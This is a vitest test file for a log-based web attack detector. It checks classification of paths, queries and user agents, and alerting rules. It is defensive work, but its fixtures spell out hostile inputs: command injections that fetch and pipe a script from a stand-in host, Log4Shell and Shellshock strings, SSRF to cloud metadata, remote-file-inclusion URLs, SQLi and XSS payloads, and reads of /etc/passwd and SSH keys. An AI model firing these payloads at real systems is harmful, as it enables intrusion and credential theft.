import { describe, expect, test } from 'vitest';
import {
  classifyPath,
  classifyQuery,
  classifyUserAgent,
  F_ADMIN,
  F_CVE,
  F_PROXY,
  F_SENSITIVE,
  F_SQLI,
  F_TECH,
  F_TRAVERSAL,
  F_W00T,
  F_WEBSHELL,
  F_WP,
  F_WP_AUTHOR,
  F_XSS,
  F_BAD_UA,
  F_RCE,
  F_SSRF,
  isProtocolProbe,
  percentDecode,
} from '@core/detect/content/classify';
import type { AccessEvent } from '@core/events/event';
import { createParser } from '@core/parse/index';
import { alertsOf, req, rulesOf, run } from './helpers';

/** The event the combined parser makes of a logged request line (as nginx writes it, \x escapes and all). */
function logged(request: string, status = 400): AccessEvent {
  let out: AccessEvent | null = null;
  createParser('combined').line(`198.51.100.9 - - [20/Jan/2015:19:53:28 +0100] "${request}" ${status} 47 "-" "-"`, 1, 0, {
    event: (e) => void (out = e),
    error: (e) => {
      throw new Error(e.message);
    },
    ignored: () => {},
  });
  return out!;
}

describe('content classification', () => {
  test.each([
    ['/.env', F_SENSITIVE],
    ['/.git/HEAD', F_SENSITIVE],
    ['/backup.zip', F_SENSITIVE],
    ['/wp-config.php.bak', F_SENSITIVE | F_WP],
    ['/%2fetc%2fpasswd', F_TRAVERSAL],
    ['/%252E%252E%252Ffoo', F_TRAVERSAL],
    ['/static/..%2f..%2fwin.ini', F_TRAVERSAL],
    ['/c99.php', F_WEBSHELL],
    ['/uploads/Worse_Linux_Shell.php', F_WEBSHELL],
    ['/phpmyadmin2017/index.php', F_ADMIN],
    ['/+CSCOE+/logon.html', F_ADMIN],
    ['/_ignition/execute-solution', F_CVE],
    // IIS worms of the 2000s, still in internet background noise (the honeynet log in ../shared has them).
    ['/default.ida', F_CVE],
    ['/scripts/root.exe', F_CVE],
    ['/MSADC/root.exe', F_CVE],
    ['/c/winnt/system32/cmd.exe', F_CVE | F_TRAVERSAL],
    ['/scripts/nsiislog.dll', F_CVE],
    ['/_vti_bin/_vti_aut/fp30reg.dll', F_CVE],
    // Buffer-overflow filler: the WebDAV SEARCH overflow's path of one repeated byte.
    ['/' + '\ufffd'.repeat(600), F_CVE],
    ['/' + 'X'.repeat(512), F_CVE],
    ['/crx/packmgr/service.jsp', F_TECH],
    ['/w00tw00t.at.ISC.SANS.DFind:)', F_W00T],
    ['http://proxy.example:80/ip.php', F_PROXY],
    ['/wp-content/plugins/x/readme.txt', F_WP],
  ])('%s', (path, flags) => {
    expect(classifyPath(path)).toBe(flags);
  });

  test.each(['/', '/api/v1/users/{id}', '/.well-known/acme-challenge/x', '/static/app.js', '/admin-guide.html', '/docs/shell-scripting', '/index.php', '/' + 'X'.repeat(511), '/' + 'ab'.repeat(2000), '/downloads/cmd.exe.zip'])(
    'benign path %s has no flags',
    (path) => {
      expect(classifyPath(path)).toBe(0);
    },
  );

  test.each([
    // Code Red: default.ida?XXXX… (224 of them, then the shellcode); a longer run of filler alone is enough.
    ['X'.repeat(600) + '%u9090%u6858%ucbd3', F_CVE],
    ['id=1%27%20OR%201=1--', F_SQLI],
    ['a=%20union%20all%20select%20', F_SQLI],
    ['a=information_schema.tables', F_SQLI],
    ['a=%2cnull%2cnull', F_SQLI],
    ['q=%3Cscript%3Ealert(1)%3C/script%3E', F_XSS],
    ['a=javascript%3A', F_XSS],
    ['file=../../etc/passwd', F_TRAVERSAL],
    ['x=${jndi:ldap://evil/a}', F_CVE],
    ['author=2', F_WP_AUTHOR],
    // Injection forms the first signatures missed (found by the OWASP CRS corpus, content-corpora.test.ts).
    ['id=1)::int', F_SQLI],
    ['user[$ne]=admin', F_SQLI],
    ['q=%7B%22%24gt%22%3A%22%22%7D', F_SQLI],
    ['var=%27%3bprint%27', F_SQLI],
    ['test=;DROP%2F%2Atest%2A%2FTABLE+test%3B', F_SQLI],
    ['id=9999+or+/*!50000select+1*/', F_SQLI],
    ['test=select+if(x', F_SQLI],
    ['q=x%22%20autofocus%20onfocusin%3Dalert', F_XSS],
    ['x=%5B%5D.sort.call%60%24%7Balert%7D1337%60', F_XSS],
    ['x=url%28javascript%3Aalert%281%29%29', F_XSS],
    ['s=/etc/sudoers', F_TRAVERSAL],
    ['path_comp=.ssh/id_rsa', F_TRAVERSAL],
    ['cmd=%3Bcat%20/etc/passwd', F_RCE | F_TRAVERSAL],
    ['host=8.8.8.8|wget%20http://x/b.sh', F_RCE],
    ['ip=127.0.0.1%26%26whoami', F_RCE],
    ['x=$(id)', F_RCE],
    ['x=%60uname%20-a%60', F_RCE],
    ['c=bash%20-c%20%22echo%20hi%22', F_RCE],
    ['code=%3C%3Fphp%20system(%27id%27)%3B', F_RCE],
    ['x=$_SERVER[%27HTTP_HOST%27]', F_RCE],
    ['foo=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D', F_RCE],
    ['x=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D', F_RCE],
    ['q=%7B%7B7*7%7D%7D', F_RCE],
    ['__proto__[admin]=1', F_RCE],
    ['constructor%5Bprototype%5D%5Badmin%5D=1', F_RCE],
    ['url=http://169.254.169.254/latest/meta-data/', F_SSRF],
    ['u=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F', F_SSRF],
    ['url=gopher://127.0.0.1:6379/_FLUSHALL', F_SSRF],
    ['u=http://0xa9fea9fe/', F_SSRF],
    ['x=url:file:///etc/passwd', F_SSRF],
    ['x=local_file://something', F_SSRF],
    // Remote file inclusion: fail2ban's php-url-fopen fixture, and an old PHP application's include parameter.
    ['n=http://eatmyfood.hostinginfive.com/pizza.htm?', F_RCE],
    ['_CONF[path]=https://foo.bar', F_RCE],
    ['mosConfig_absolute_path=http%3A%2F%2Fevil.example%2Fshell.txt%3F&x=1', F_RCE],
    ['x=${jndi:ldap://evil.example/a}', F_CVE],
  ])('query %s', (q, flags) => {
    expect(classifyQuery(q) & flags).toBe(flags);
  });

  // Look-alikes from real APIs and sites: parameter and field separators, text that mentions code, base64.
  test.each([
    'fields=name|id',
    'sort=price|desc',
    'a=1;id=2',
    'q=how+to+delete+from+list',
    'q=turn+on+the+lights',
    'online=1&onboarding=done',
    'utm_campaign=spring&utm_source=mail',
    'next=https%3A%2F%2Fapp.example%2Fhome%3Fa%3D1',
    'callback=https://partner.example/hook',
    'next=https://app.example/search?q=shoes',
    'path=/files/url:readme',
    'sig=dGhpcyBpcyBub3Qgb25lPQ%2F%2Fonafe%3D',
    'lang=id&region=ID',
    'path=/images/2024/x.png',
    'version=2&format=json',
    'token=' + 'A'.repeat(300) + 'B'.repeat(300),
    'pad=' + '0'.repeat(511),
  ])('benign query %s has no injection flags', (q) => {
    expect(classifyQuery(q) & (F_SQLI | F_XSS | F_TRAVERSAL | F_CVE | F_RCE | F_SSRF)).toBe(0);
  });

  test.each([
    ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', F_RCE],
    ['/index.php/__proto__/x', F_RCE],
    ['/get/24+union+all+select+1,2,3', F_SQLI],
  ])('path %s', (path, flags) => {
    expect(classifyPath(path) & flags).toBe(flags);
  });

  test.each([
    // Spam text quoting C ("c's assert() feature") and a crawler following a broken `file://` link.
    '/presentations/vim/Result:+%22i+never+really+liked+c%27s+assert%28%29+feature.%22',
    '/misc/nmh//%22file://$file/%22',
  ])('benign path %s has no injection flags', (path) => {
    expect(classifyPath(path) & (F_SQLI | F_XSS | F_RCE | F_SSRF)).toBe(0);
  });

  test('payloads in the user agent are flagged; browser and locale tokens are not', () => {
    expect(classifyUserAgent("1' and sleep(5)#")).toBe(F_SQLI);
    expect(classifyUserAgent('Mozilla/5.0 (Windows NT 10.0) <img onclick=alert(1)>')).toBe(F_XSS);
    expect(classifyUserAgent('cat /root/.ssh/id_rsa')).toBe(F_TRAVERSAL);
    expect(classifyUserAgent('&#x24;&#123;jndi:ldap://evil.example/w}')).toBe(F_CVE);
    expect(classifyUserAgent('Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10')).toBe(0);
    expect(classifyUserAgent('MyApp/3.1 (Android; version (11); build 7)')).toBe(0);
    expect(classifyUserAgent('urlgrabber/3.10 yum/3.4.3')).toBe(0);
  });

  test.each(['page=2&limit=20', 'q=red%20dress&sort=price', 'q=black+and+white', "filter=tolower(name)%20eq%20'x'".replace("'x'", 'x'), 'ts=2024-05-01T10:00:00Z', 'redirect_uri=https%3A%2F%2Fapp.example%2Fcb'])(
    'benign query %s has no attack flags',
    (q) => {
      expect(classifyQuery(q) & (F_SQLI | F_XSS | F_TRAVERSAL | F_CVE)).toBe(0);
    },
  );

  test('offensive tools are bad user agents, ordinary clients are not', () => {
    expect(classifyUserAgent('Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)')).toBe(F_BAD_UA);
    expect(classifyUserAgent('sqlmap/1.7#stable (https://sqlmap.org)')).toBe(F_BAD_UA);
    expect(classifyUserAgent('() { :; }; /bin/bash -c id')).toBe(F_CVE | F_RCE);
    for (const ua of ['curl/8.5.0', 'python-requests/2.31', 'Go-http-client/1.1', 'okhttp/4.12.0', 'Mozilla/5.0 Firefox/126.0']) {
      expect(classifyUserAgent(ua)).toBe(0);
    }
  });

  test('percent decoding is tolerant', () => {
    expect(percentDecode('%2e%2E%zz%', false)).toBe('..%zz%');
    expect(percentDecode('a+b', true)).toBe('a b');
  });
});

describe('requests that are not HTTP', () => {
  // Request lines from nginx's fail2ban fixtures and an internet-facing nginx log in ../shared.
  test.each([
    ['\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr', 'an RDP handshake'],
    ['\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03', 'a TLS ClientHello on the plain port'],
    ['\\x05\\x01\\x00', 'a SOCKS5 greeting'],
    ['SSH-2.0-Go', 'an SSH banner'],
    ['MGLNDD_107.175.245.18_443', "a scanner's token"],
    ['{\\x22id\\x22:1,\\x22jsonrpc\\x22:\\x222.0\\x22,\\x22method\\x22:\\x22eth_blockNumber\\x22}', 'a JSON-RPC call'],
    ['SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1', 'an SSTP VPN probe'],
    ['HELP', 'a bare word'],
    ['TRACK / HTTP/1.1', "IIS's TRACK"],
  ])('%s (%s) is a protocol probe', (request) => {
    const e = logged(request);
    expect(isProtocolProbe(e.method, e.path)).toBe(true);
  });

  test.each([
    ['', "an empty request (a browser's unused preconnect)"],
    ['-', 'nothing read before the timeout'],
    ['GET / HTTP/1.1', 'HTTP'],
    ['PROPFIND /dav/ HTTP/1.1', 'WebDAV'],
    ['PRI * HTTP/2.0', "HTTP/2's preface"],
    ['M-SEARCH * HTTP/1.1', 'SSDP'],
    ['get /index.html HTTP/1.0', 'a lower-case method'],
  ])('"%s" (%s) is not', (request) => {
    const e = logged(request);
    expect(isProtocolProbe(e.method, e.path)).toBe(false);
  });

  test('a format that logs no method is not a protocol probe', () => {
    expect(isProtocolProbe('', '/api/v1/items')).toBe(false);
  });

  test('one alerts, with the line it saw', () => {
    const e = logged('SSH-2.0-Go');
    const [a] = alertsOf(run([req(0, { method: e.method, path: e.path, protocol: e.protocol, status: 400 })]), 'protocol-probe');
    expect(a!.reason).toBe('request that is not HTTP from 203.0.113.7, e.g. SSH-2.0-Go (1 request)');
  });
});

describe('content rules in the detector', () => {
  test('a single webshell, CVE, w00tw00t, proxy or bad-version request alerts', () => {
    expect(rulesOf(run([req(0, { path: '/s72_Shell.php', status: 404 })]))).toEqual(['webshell-probe']);
    expect(rulesOf(run([req(0, { path: '/setup.cgi', status: 404 })]))).toEqual(['cve-probe']);
    expect(rulesOf(run([req(0, { path: '/w00tw00t.at.ISC.SANS.DFind', status: 404 })]))).toEqual(['w00tw00t']);
    expect(rulesOf(run([req(0, { method: 'CONNECT', path: 'mail.example:25', status: 400 })]))).toEqual(['open-proxy']);
    expect(rulesOf(run([req(0, { path: '/', protocol: 'HTTP/1.2', status: 400 })]))).toEqual(['invalid-http-version']);
    expect(rulesOf(run([req(0, { userAgent: 'sqlmap/1.8' })]))).toEqual(['bad-user-agent']);
  });

  test('probing rules need several hits: two SQLi probes do not alert, three do', () => {
    const probe = (i: number) => req(i * 5_000, { path: '/search', query: `q=1%27%20or%201=1--${i}` });
    expect(alertsOf(run([probe(0), probe(1)]))).toEqual([]);
    const [a] = alertsOf(run([probe(0), probe(1), probe(2)]), 'sqli-probing');
    expect(a!.reason).toMatch(/^3 SQL injection probe requests in 1 min from 203\.0\.113\.7 \(threshold 3\), e\.g\. \/search\?q=/);
  });

  test('admin and technology probes only count when the server refuses (a real admin gets 200)', () => {
    const admin = ['/administrator/', '/phpmyadmin/', '/admin/'];
    expect(alertsOf(run(admin.map((p, i) => req(i * 1_000, { path: p, status: 200 }))))).toEqual([]);
    expect(rulesOf(run(admin.map((p, i) => req(i * 1_000, { path: p, status: 404 }))))).toEqual(['admin-probe']);
    expect(alertsOf(run([req(0, { path: '/crx/packmgr/service.jsp', status: 200 })]))).toEqual([]);
  });

  test('WordPress: scans, login brute force and user enumeration', () => {
    const scan = ['/wp-content/plugins/a/x.php', '/wp-content/plugins/b/y.php', '/wp-includes/z.php', '/blog/wp-admin/admin-ajax.php'];
    expect(rulesOf(run(scan.map((p, i) => req(i * 1_000, { path: p, status: 404 }))))).toEqual(['wordpress-scan']);
    const bf = Array.from({ length: 6 }, (_, i) => req(i * 2_000, { method: 'POST', path: '/wp-login.php', status: 200 }));
    expect(rulesOf(run(bf))).toEqual(['wordpress-bruteforce']);
    const same = Array.from({ length: 8 }, (_, i) => req(i * 1_000, { path: '/', query: 'author=1' }));
    expect(alertsOf(run(same))).toEqual([]);
    const walk = Array.from({ length: 5 }, (_, i) => req(i * 1_000, { path: '/', query: `author=${i + 1}` }));
    expect(rulesOf(run(walk))).toEqual(['wordpress-user-enum']);
  });

  test('one command-injection or SSRF request alerts, the first at least high, with the request as example', () => {
    const [rce] = alertsOf(run([req(0, { path: '/api/ping', query: 'host=8.8.8.8%3Bwget%20http%3A%2F%2Fx.example%2Fb.sh%7Csh' })]), 'rce-probing');
    expect(rce!.severity).toBe('high');
    expect(rce!.reason).toMatch(/^remote code execution probe from 203\.0\.113\.7, e\.g\. \/api\/ping\?host=8\.8\.8\.8%3Bwget/);
    const ssrf = run([req(0, { path: '/api/preview', query: 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' })]);
    expect(rulesOf(ssrf)).toEqual(['ssrf-probing']);
    expect(alertsOf(run([req(0, { path: '/api/preview', query: 'url=https%3A%2F%2Fexample.com%2Fpage' })]))).toEqual([]);
  });

  test('three sensitive-file probes in a minute alert; one does not', () => {
    expect(alertsOf(run([req(0, { path: '/.env', status: 404 })]))).toEqual([]);
    const probes = ['/.env', '/.git/config', '/.htpasswd'].map((p, i) => req(i * 10_000, { path: p, status: 404 }));
    expect(rulesOf(run(probes))).toEqual(['sensitive-files']);
  });
});
